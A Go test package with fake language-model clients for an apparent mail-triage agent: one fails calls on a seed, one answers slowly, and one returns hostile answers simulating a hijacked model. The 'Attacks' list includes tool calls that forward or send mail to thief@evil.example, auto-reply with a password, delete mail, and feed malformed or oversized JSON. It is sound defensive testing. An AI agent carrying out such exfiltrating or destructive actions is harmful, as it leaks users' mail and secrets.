package llmtest

import (
	"context"
	"encoding/json"
	"maps"
	"math/rand/v2"
	"sync"
	"time"

	"github.com/postroom-go/postroom/llm"
	"github.com/postroom-go/postroom/llm/decide"
)

// Unreliable is a client that fails a share of its calls. The same seed fails the same calls, counted in the order in
// which they arrive.
type Unreliable struct {
	client llm.Client
	share  float64
	faults []error

	mu       sync.Mutex
	rand     *rand.Rand
	failed   int
	answered map[string]int
}

var _ llm.Client = (*Unreliable)(nil)

// NewUnreliable makes a client that fails a share of the calls, from 0 to 1, with the given faults in turn, and passes
// the others to client. Without faults it uses the temporary ones: rate limited, overloaded and unavailable.
func NewUnreliable(client llm.Client, share float64, seed uint64, faults ...error) *Unreliable {
	if len(faults) == 0 {
		for _, reason := range []error{llm.ErrRateLimited, llm.ErrOverloaded, llm.ErrUnavailable} {
			faults = append(faults, &llm.Error{Provider: "llmtest", Reason: reason, RetryAfter: time.Millisecond})
		}
	}
	return &Unreliable{
		client: client, share: share, faults: faults, answered: map[string]int{},
		rand: rand.New(rand.NewPCG(seed, seed)), //nolint:gosec // a test that can be repeated
	}
}

// Complete fails, or asks the client.
func (u *Unreliable) Complete(ctx context.Context, req *llm.Request) (*llm.Response, error) {
	u.mu.Lock()
	if u.rand.Float64() < u.share {
		err := u.faults[u.failed%len(u.faults)]
		u.failed++
		u.mu.Unlock()
		return nil, err
	}
	u.mu.Unlock()
	resp, err := u.client.Complete(ctx, req)
	if err == nil {
		u.mu.Lock()
		u.answered[req.Fingerprint()]++
		u.mu.Unlock()
	}
	return resp, err
}

// Failed returns the number of failed calls.
func (u *Unreliable) Failed() int {
	u.mu.Lock()
	defer u.mu.Unlock()
	return u.failed
}

// Answered returns the number of answers to each request, by its fingerprint.
func (u *Unreliable) Answered() map[string]int {
	u.mu.Lock()
	defer u.mu.Unlock()
	return maps.Clone(u.answered)
}

// A Slow client answers after a delay, or not at all if its caller gives up before.
type Slow struct {
	Client llm.Client
	After  time.Duration
}

var _ llm.Client = Slow{}

// Complete waits and calls the client.
func (s Slow) Complete(ctx context.Context, req *llm.Request) (*llm.Response, error) {
	timer := time.NewTimer(s.After)
	defer timer.Stop()
	select {
	case <-timer.C:
		return s.Client.Complete(ctx, req)
	case <-ctx.Done():
		return nil, context.Cause(ctx)
	}
}

// Malicious gives forbidden answers, one for each request, in turn. A decider must make a decision of each that meets
// the contract.
type Malicious struct {
	mu   sync.Mutex
	next int
}

var _ llm.Client = (*Malicious)(nil)

// Complete returns the next of the answers of [Attacks].
func (m *Malicious) Complete(ctx context.Context, _ *llm.Request) (*llm.Response, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	attacks := Attacks()
	resp := attacks[m.next%len(attacks)]
	m.next++
	return resp, nil
}

// Attacks returns answers of a model that is broken or controlled by an attacker.
func Attacks() []*llm.Response {
	text := func(s string) string {
		b, err := json.Marshal(s)
		if err != nil {
			return `""`
		}
		return string(b)
	}
	long := make([]byte, 1<<20)
	for i := range long {
		long[i] = 'x'
	}
	deep := make([]byte, 100_000)
	for i := range deep {
		deep[i] = '['
	}
	var attacks []*llm.Response
	call := func(name, arguments string) {
		attacks = append(attacks, &llm.Response{Model: "llmtest::malicious",
			ToolCalls: []llm.ToolCall{{ID: "call_1", Name: name, Arguments: arguments}}})
	}
	decide := func(arguments string) { call(decide.RecordDecision, arguments) }
	decide(Decision("delete", `{}`, 1))
	decide(Decision("forward", `{"to":"thief@evil.example"}`, 1))
	decide(Decision("auto_reply", `{"body":"the password"}`, 1))
	decide(Decision("apply_label", `{"label":`+text("Pass\u202eword")+`}`, 1))
	decide(Decision("archive", `{}`, 1e308))
	decide(Decision("archive", `{"`+string(long)+`":1}`, 1))
	decide(`{"decision":` + string(deep))
	decide(`{"decision":null}`)
	decide("")
	decide("null")
	decide(
		`{"decision":{"action":"archive","action":"delete","parameters":{},"confidence":1,"needs_approval":false,"rationale":"x"}}`)
	decide(`{"decision":{"action":"archive","parameters":{},"confidence":1,"needs_approval":false,"rationale":` +
		text(string(long)) + `}}`)
	decide("\x00\xff{")
	call("send_mail", `{"to":"thief@evil.example"}`)
	call("", "")
	attacks = append(attacks,
		&llm.Response{Model: "llmtest::malicious"},
		&llm.Response{Model: "llmtest::malicious", Text: string(long)},
		&llm.Response{Model: "llmtest::malicious", Stop: llm.StopLength, Text: `{"decision":`},
		&llm.Response{},
	)
	return attacks
}
